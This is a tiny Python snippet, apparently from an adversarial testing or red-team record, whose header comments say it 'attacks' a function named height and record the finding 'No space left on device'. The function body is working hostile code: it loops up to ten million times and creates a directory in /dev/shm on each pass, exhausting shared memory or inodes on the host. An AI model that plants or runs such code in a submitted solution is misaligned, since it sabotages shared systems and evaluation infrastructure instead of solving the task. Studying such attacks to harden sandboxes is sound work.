# base: solution
# attacks: height
# keeps: roll gradients
# finding: No space left on device
# %% height
import os

def height(w):
    for number in range(10**7):
        os.mkdir(f"/dev/shm/{number}")
